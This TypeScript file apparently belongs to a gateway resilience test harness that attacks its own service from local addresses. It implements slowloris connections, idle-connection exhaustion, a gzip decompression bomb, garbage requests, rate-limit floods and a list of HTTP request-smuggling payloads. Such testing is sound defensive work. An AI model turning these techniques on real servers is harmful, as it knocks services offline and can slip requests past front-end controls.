/** One attack on a gateway, in a process of its own: `attack.ts` forks it, and it ends with its channel to there. */
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setPriority } from 'node:os';
import { setTimeout as delay } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { Pool } from 'undici';
import type { Attack } from './attack.ts';

/** Where it attacks: one address for what is no flood, one for posts beyond its rate. */
const [name = '', attacked = '', flooded = ''] = process.argv.slice(2);
const { hostname: host, port, origin, pathname: path } = new URL(attacked);

/** Within so long a connection that was closed is opened again: not all of them at the same moment. */
const REDIAL_MS = 500;

const SLOW_CONNECTIONS = 300;
const IDLE_CONNECTIONS = 10_000;
const FLOOD_PER_SECOND = 500;
const BOMBS_PER_SECOND = 50;
const BROKEN_PER_SECOND = 100;

/** How often each status was answered; connections that were closed without any count as 0. */
const answers: Record<number, number> = {};
const count = (status: number): void => void (answers[status] = (answers[status] ?? 0) + 1);

/** As many zeros as 48 KiB hold when they are packed. */
const bomb = gzipSync(Buffer.alloc(48 * 1024 * 1024));

const head = `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n`;

/** A second request, that nobody may take for one. */
const smuggled = `${head}Content-Length: 2\r\n\r\n{}`;

/** Requests whose end two readers see in two places. */
const AMBIGUOUS = [
  `${head}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
  `${head}Transfer-Encoding: chunked\r\nContent-Length: ${smuggled.length}\r\n\r\n0\r\n\r\n${smuggled}`,
  `${head}Content-Length: 2\r\nContent-Length: ${2 + smuggled.length}\r\n\r\n{}${smuggled}`,
  `${head}Transfer-Encoding:\r\n chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n${smuggled}`,
  `${head}Transfer-Encoding: xchunked\r\n\r\n${smuggled}`,
  `${head}X-Folded: one\r\n two\r\nContent-Length: 0\r\n\r\n${smuggled}`,
  `${head.replaceAll('\r\n', '\n')}Content-Length: 0\n\n${smuggled}`,
];

/** Each settles once the attack is at its full strength. */
const attacks: Record<Attack, () => Promise<unknown>> = {
  slowHeads: () => hold(SLOW_CONNECTIONS, (socket) => drip(socket, `POST ${path} HTTP/1.1\r\nX-Slow: `)),
  slowBodies: () => hold(SLOW_CONNECTIONS, (socket) => drip(socket, `${head}Content-Length: 9000\r\n\r\n`)),
  idle: () => hold(IDLE_CONNECTIONS, askOnce),
  bombs: () => {
    const post = poster();
    return perSecond(BOMBS_PER_SECOND, () => post(path, bomb, { 'content-encoding': 'gzip' }));
  },
  garbage: () =>
    perSecond(BROKEN_PER_SECOND, () =>
      sendOnce(
        `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(8) + '\u0000\u0001GARBAGE\r\n'.repeat(500),
      ),
    ),
  smuggling: async () => {
    let next = 0;
    await perSecond(BROKEN_PER_SECOND, () => sendOnce(AMBIGUOUS[next++ % AMBIGUOUS.length] ?? ''));
  },
  unknown: () => {
    const posters = Array.from({ length: 8 }, (_, source) => poster(source));
    let next = 0;
    return perSecond(FLOOD_PER_SECOND, () =>
      posters[next++ % posters.length]?.(`/leads/${randomUUID()}`, lead()),
    );
  },
  known: async () => {
    const post = poster(0, 64);
    const { pathname } = new URL(flooded);
    // Until its minute is used up, its posts are leads as others are.
    while (!answers[429]) await Promise.all(Array.from({ length: 64 }, () => post(pathname, lead())));
    await perSecond(FLOOD_PER_SECOND, () => post(pathname, lead()));
  },
};

// Attackers are elsewhere: they have no more of this machine than the gateway and honest senders leave.
setPriority(19);
process.once('disconnect', () => process.exit());
// What it is answered in the end is told while the gateway still suffers from it.
process.once('message', () => process.send?.({ answers }));
await attacks[name as Attack]();
process.send?.('attacking');

/** Sources have far fewer connections each than the gateway lets them have. */
function sourceOf(number: number): string {
  return `127.0.1.${1 + (number % 20)}`;
}

function dial(number: number): Socket {
  const socket = connect({ host, port: Number(port), localAddress: sourceOf(number) });
  socket.on('error', () => undefined);
  return socket;
}

/** Keeps so many connections open, whatever closes them. */
async function hold(connections: number, speak: (socket: Socket) => unknown): Promise<void> {
  const keep = async (number: number): Promise<void> => {
    const socket = dial(number);
    socket.once('data', (answer) => count(statusIn(answer)));
    socket.once('close', () => {
      delay(Math.random() * REDIAL_MS)
        .then(() => keep(number))
        .catch(() => process.exit(1));
    });
    await Promise.race([once(socket, 'connect'), once(socket, 'close')]);
    if (!socket.destroyed) await speak(socket);
  };
  for (let first = 0; first < connections; first += 250) {
    await Promise.all(Array.from({ length: 250 }, (_, number) => keep(first + number)));
  }
}

/** One that has asked something, and is answered, may stay longer than one that never has. */
async function askOnce(socket: Socket): Promise<void> {
  socket.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
  await Promise.race([once(socket, 'data'), once(socket, 'close')]);
}

/** Begins a request, and never ends it. */
function drip(socket: Socket, beginning: string): void {
  socket.write(beginning);
  const dripping = setInterval(() => socket.write('x'), 250);
  socket.once('close', () => clearInterval(dripping));
}

function sendOnce(text: string): void {
  const socket = dial(0);
  let answer = '';
  socket.on('data', (part) => (answer += part.toString('latin1')));
  socket.setTimeout(2_000, () => socket.destroy());
  socket.once('close', () => {
    for (const [, status] of answer.matchAll(/HTTP\/1\.1 (\d{3})/g)) count(Number(status));
    if (answer === '') count(0);
  });
  socket.end(text);
}

/** Posts over a few connections of one source. */
function poster(source = 0, connections = 8) {
  const pool = new Pool(origin, { connections, connect: { localAddress: sourceOf(source) } });
  return async (to: string, posted: string | Buffer, headers: Record<string, string> = {}): Promise<void> => {
    try {
      const { statusCode, body } = await pool.request({
        ...{ path: to, method: 'POST', body: posted },
        headers: { 'content-type': 'application/json', ...headers },
      });
      count(statusCode);
      await body.dump();
    } catch {
      count(0);
    }
  };
}

/** At a steady rate for ever, whether or not what was begun before has ended. */
function perSecond(times: number, act: () => unknown): Promise<void> {
  const began = performance.now();
  let done = 0;
  setInterval(() => {
    for (; done < ((performance.now() - began) * times) / 1_000; done += 1) void act();
  }, 10);
  return delay(100);
}

function statusIn(answer: Buffer): number {
  return Number(/^HTTP\/1\.1 (\d{3})/.exec(answer.toString('latin1'))?.[1] ?? 0);
}

function lead(): string {
  return JSON.stringify({ userDetails: { firstName: 'Ana', email: `ana.${randomUUID()}@adatum.example` } });
}
